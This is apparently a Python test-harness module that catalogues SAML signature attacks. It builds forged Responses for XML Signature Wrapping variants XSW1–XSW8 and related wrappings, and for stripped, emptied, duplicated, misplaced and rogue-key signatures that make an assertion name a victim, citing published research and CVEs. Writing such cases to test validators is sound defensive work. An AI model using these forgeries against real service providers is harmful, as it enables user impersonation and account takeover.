"""Cases on the signatures themselves: XML Signature Wrapping (XSW1–XSW8
and variants) and signatures removed, emptied, doubled, misplaced or made
with a key that is not in metadata. The attacker holds a genuine Response
the IdP signed for them (``f.baseline()``) and rewrites it."""
from __future__ import annotations

import base64
import copy

from lxml import etree

from fedsim_harness.attack.catalogue import Attack, Case, Forged, doc
from fedsim_harness.attack.forge import (
    DS,
    assertion_of,
    new_id,
    q,
    remove,
    rogue_signer,
    set_identity,
    sign,
    signature_of,
    without_signature,
)

SOMOROVSKY = "Somorovsky et al., « On Breaking SAML: Be Whoever You Want to Be », USENIX Security 2012"


# -- wrapping --------------------------------------------------------------

def genuine(a: Attack) -> tuple[etree._Element, etree._Element]:
    """A genuine signed Response for the attacker, and an evil (unsigned) copy
    of its assertion naming the victim."""
    root = a.forge.baseline()
    evil = without_signature(assertion_of(root))
    set_identity(evil, a.victim)
    return root, evil


def _drop_response_signature(root: etree._Element, keep: bool) -> None:
    if not keep:
        remove(signature_of(root))


def _xsw1(keep: bool, detached: bool):
    """XSW1/XSW2: an evil Response (new ID) carries the original signed Response
    inside its Signature (XSW1) or next to it (XSW2)."""
    def build(a: Attack) -> Forged:
        original = a.forge.baseline()
        evil = copy.deepcopy(original)
        evil.set("ID", new_id())
        assertion = assertion_of(evil)
        set_identity(assertion, a.victim)
        if not keep:
            remove(signature_of(assertion))
        signature = signature_of(evil)
        inner = without_signature(original)
        if detached:
            evil.insert(evil.index(signature), inner)
        else:
            signature.append(inner)
        return doc(evil)
    return build


def _xsw_assertion(kind: str, keep_response_sig: bool):
    """XSW3–XSW8 on the assertion, the Response signature kept (now broken) or removed."""
    def build(a: Attack) -> Forged:
        root, evil = genuine(a)
        original = assertion_of(root)
        if kind == "xsw3":      # evil assertion (new ID) before the signed one
            evil.set("ID", new_id())
            root.insert(root.index(original), evil)
        elif kind == "xsw3-same-id":  # …with the same ID
            root.insert(root.index(original), evil)
        elif kind == "xsw4":    # the signed assertion wrapped inside the evil one
            evil.set("ID", new_id())
            root.replace(original, evil)
            evil.append(original)
        elif kind == "xsw5":    # evil assertion keeps the signature; a clean copy at the end
            clean = without_signature(original)
            set_identity(original, a.victim)
            root.append(clean)
        elif kind == "xsw6":    # …the clean copy inside the evil assertion's Signature
            clean = without_signature(original)
            set_identity(original, a.victim)
            signature_of(original).append(clean)
        elif kind == "xsw7":    # the signed assertion hidden in samlp:Extensions
            evil.set("ID", new_id())
            extensions = etree.Element(q("samlp", "Extensions"))
            root.insert(root.index(signature_of(root)) + 1, extensions)
            root.replace(original, evil)
            extensions.append(original)
        elif kind == "xsw8":    # evil assertion keeps the signature, the clean copy in a ds:Object
            clean = without_signature(original)
            set_identity(original, a.victim)
            holder = etree.SubElement(signature_of(original), q("ds", "Object"))
            holder.append(clean)
        elif kind == "advice":  # the signed assertion in the evil one's Advice
            evil.set("ID", new_id())
            advice = etree.Element(q("saml", "Advice"))
            evil.insert(evil.index(evil.find(q("saml", "Conditions"))) + 1, advice)
            root.replace(original, evil)
            advice.append(original)
        elif kind == "after":   # evil assertion after the signed one
            evil.set("ID", new_id())
            root.append(evil)
        elif kind == "foreign": # the signed assertion inside an unknown element
            evil.set("ID", new_id())
            holder = etree.Element("{urn:example:attacker}Wrapper", nsmap={"x": "urn:example:attacker"})
            root.replace(original, evil)
            root.append(holder)
            holder.append(original)
        elif kind == "status":  # the signed assertion inside samlp:Status/StatusDetail
            evil.set("ID", new_id())
            detail = etree.SubElement(root.find(q("samlp", "Status")), q("samlp", "StatusDetail"))
            root.replace(original, evil)
            detail.append(original)
        elif kind == "response-in-assertion":  # the evil assertion in the signed Response's Status
            evil.set("ID", new_id())
            detail = etree.SubElement(root.find(q("samlp", "Status")), q("samlp", "StatusDetail"))
            detail.append(evil)
            remove(original)
        _drop_response_signature(root, keep_response_sig)
        return doc(root)
    return build


XSW_KINDS = [
    ("xsw3", "XSW3: an evil assertion (new ID) before the signed one"),
    ("xsw3-same-id", "XSW3 variant: an evil assertion before the signed one, with the same ID"),
    ("xsw4", "XSW4: the signed assertion wrapped inside an evil assertion"),
    ("xsw5", "XSW5: the evil assertion keeps the signature, an unsigned clean copy follows"),
    ("xsw6", "XSW6: the evil assertion keeps the signature, the clean copy inside that Signature"),
    ("xsw7", "XSW7: the signed assertion hidden in samlp:Extensions, an evil one in its place"),
    ("xsw8", "XSW8: the evil assertion keeps the signature, the clean copy in a ds:Object"),
    ("advice", "The signed assertion moved into the Advice of an evil assertion"),
    ("after", "An evil assertion after the signed one"),
    ("foreign", "The signed assertion moved into an element of an unknown namespace"),
    ("status", "The signed assertion moved into samlp:StatusDetail, an evil one in its place"),
    ("response-in-assertion", "Only an evil assertion, hidden in StatusDetail of the signed Response"),
]


def _wrapping() -> list[Case]:
    cases = [
        Case("xsw1", "xsw", "XSW1: an evil Response with the original signed Response inside its Signature",
             SOMOROVSKY, _xsw1(True, False), victim=True),
        Case("xsw1-unsigned-assertion", "xsw", "XSW1 with the evil assertion's signature removed", SOMOROVSKY,
             _xsw1(False, False), victim=True),
        Case("xsw2", "xsw", "XSW2: an evil Response with the original signed Response next to its Signature",
             SOMOROVSKY, _xsw1(True, True), victim=True),
        Case("xsw2-unsigned-assertion", "xsw", "XSW2 with the evil assertion's signature removed", SOMOROVSKY,
             _xsw1(False, True), victim=True),
    ]
    for kind, title in XSW_KINDS:
        cases.append(Case(f"{kind}", "xsw", f"{title} (Response signature kept, now broken)", SOMOROVSKY,
                          _xsw_assertion(kind, True), victim=True))
        cases.append(Case(f"{kind}-unsigned-response", "xsw", f"{title}; Response signature removed",
                          SOMOROVSKY, _xsw_assertion(kind, False), victim=True))
    return cases


# -- removal and foreign keys ------------------------------------------------

def _signed(assertion: bool, response: bool, victim: bool = False, rogue: str = ""):
    """The IdP (or a rogue key for ``rogue`` = "assertion"/"response"/"both")
    signs the parts asked; ``victim``: the assertion names the victim."""
    def build(a: Attack) -> Forged:
        f = a.forge
        root = f.response(a.victim if victim else None)
        evil_key = rogue_signer(f.signer.entity_id)
        element = assertion_of(root)
        if assertion:
            sign(element, evil_key if rogue in ("assertion", "both") else f.signer)
        if response:
            sign(root, evil_key if rogue in ("response", "both") else f.signer)
        return doc(root)
    return build


def _strip(level: str, victim: bool):
    def build(a: Attack) -> Forged:
        root = a.forge.baseline()
        if victim:
            set_identity(assertion_of(root), a.victim)
        if level in ("assertion", "both"):
            remove(signature_of(assertion_of(root)))
        if level in ("response", "both"):
            remove(signature_of(root))
        return doc(root)
    return build


def _emptied(level: str, victim: bool):
    def build(a: Attack) -> Forged:
        root = a.forge.baseline()
        if victim:
            set_identity(assertion_of(root), a.victim)
        for element in ([assertion_of(root)] if level == "assertion" else [assertion_of(root), root]):
            signature_of(element).xpath("ds:SignatureValue", namespaces={"ds": DS})[0].text = ""
        return doc(root)
    return build


def _mismatched_cert(a: Attack) -> Forged:
    """Signed with a rogue key while KeyInfo shows the IdP's real certificate."""
    f = a.forge
    root = f.response(a.victim)
    rogue = rogue_signer(f.signer.entity_id)
    for element in (assertion_of(root), root):
        signature = sign(element, rogue)
        cert = signature.xpath(".//ds:X509Certificate", namespaces={"ds": DS})[0]
        cert.text = "".join(f.signer.cert_pem.decode().split("-----")[2].split())
    return doc(root)


def _key_value(a: Attack) -> Forged:
    """Signed with a rogue key that KeyInfo carries as a bare RSAKeyValue."""
    from cryptography import x509

    f = a.forge
    root = f.response(a.victim)
    rogue = rogue_signer(f.signer.entity_id)
    numbers = x509.load_pem_x509_certificate(rogue.cert_pem).public_key().public_numbers()

    def b64(number: int) -> str:
        return base64.b64encode(number.to_bytes((number.bit_length() + 7) // 8, "big")).decode()

    for element in (assertion_of(root), root):
        signature = sign(element, rogue, key_info=False)
        key_info = etree.SubElement(signature, q("ds", "KeyInfo"))
        value = etree.SubElement(etree.SubElement(key_info, q("ds", "KeyValue")), q("ds", "RSAKeyValue"))
        etree.SubElement(value, q("ds", "Modulus")).text = b64(numbers.n)
        etree.SubElement(value, q("ds", "Exponent")).text = b64(numbers.e)
    return doc(root)


def _two_signatures(order: str):
    """The victim's assertion carries a rogue signature and the attacker's genuine one."""
    def build(a: Attack) -> Forged:
        f = a.forge
        root, _ = genuine(a)
        original = assertion_of(root)
        kept = copy.deepcopy(signature_of(original))
        remove(signature_of(original))
        set_identity(original, a.victim)
        rogue = sign(original, rogue_signer(f.signer.entity_id))
        index = original.index(rogue)
        original.insert(index if order == "genuine-first" else index + 1, kept)
        remove(signature_of(root))
        sign(root, rogue_signer(f.signer.entity_id))
        return doc(root)
    return build


def _misplaced(a: Attack) -> Forged:
    """The assertion's signature at its end instead of after its Issuer."""
    root = a.forge.response()
    signature = sign(assertion_of(root), a.forge.signer)
    assertion_of(root).append(signature)
    sign(root, a.forge.signer)
    return doc(root)


def _signatures() -> list[Case]:
    core = "SAML Core §5.4.1, Profiles §4.1.3.5 (the assertion must be signed)"
    return [
        Case("unsigned-assertion", "signature", "Response signed, Assertion not signed", core,
             _signed(False, True)),
        Case("unsigned-response", "signature", "Assertion signed, Response not signed (this federation wants "
             "both)", "SAML Core §5.4.1; DESIGN: want_response_signed", _signed(True, False)),
        Case("unsigned-both", "signature", "Neither the Response nor the Assertion is signed", core,
             _signed(False, False)),
        Case("strip-assertion-signature-victim", "signature", "Assertion signature removed and the NameID "
             "changed to the victim's", core, _strip("assertion", True), victim=True),
        Case("strip-response-signature-victim", "signature", "Response signature removed, the signed assertion "
             "changed to the victim's", core, _strip("response", True), victim=True),
        Case("strip-both-victim", "signature", "Both signatures removed, the assertion names the victim", core,
             _strip("both", True), victim=True),
        Case("empty-signature-value-assertion", "signature", "Assertion SignatureValue emptied, victim's NameID",
             "CVE-2020-5390 (pysaml2) and the « empty signature » class", _emptied("assertion", True),
             victim=True),
        Case("empty-signature-value-both", "signature", "Both SignatureValues emptied, victim's NameID",
             "XML Signature §4.3", _emptied("both", True), victim=True),
        Case("rogue-key-assertion", "signature", "Assertion signed by a key not in metadata (embedded KeyInfo)",
             "CVE-2016-5697 (ruby-saml), SAML Metadata §2.4.1.1", _signed(True, True, rogue="assertion")),
        Case("rogue-key-response", "signature", "Response signed by a key not in metadata (embedded KeyInfo)",
             "SAML Metadata §2.4.1.1", _signed(True, True, rogue="response")),
        Case("rogue-key-both-victim", "signature", "Victim's assertion, both signed by the attacker's own key "
             "(certificate in KeyInfo)", "CVE-2016-5697; CVE-2021-21239 (pysaml2)",
             _signed(True, True, victim=True, rogue="both"), victim=True),
        Case("rogue-key-real-cert-in-keyinfo", "signature", "Signed by a rogue key while KeyInfo shows the "
             "IdP's real certificate", "XML Signature §4.5 (KeyInfo is only a hint)", _mismatched_cert,
             victim=True),
        Case("rogue-key-keyvalue", "signature", "Signed by a rogue key given as a bare RSAKeyValue",
             "XML Signature §4.5.2", _key_value, victim=True),
        Case("two-signatures-genuine-first", "signature", "Victim's assertion with the attacker's genuine "
             "signature, then a rogue one", SOMOROVSKY, _two_signatures("genuine-first"), victim=True),
        Case("two-signatures-rogue-first", "signature", "Victim's assertion with a rogue signature, then the "
             "attacker's genuine one", SOMOROVSKY, _two_signatures("rogue-first"), victim=True),
        Case("signature-misplaced", "signature", "Assertion signature at the end of the assertion, not after "
             "Issuer (schema order)", "SAML Core §2.3.3 (schema)", _misplaced),
    ]


CASES: tuple[Case, ...] = (*_wrapping(), *_signatures())
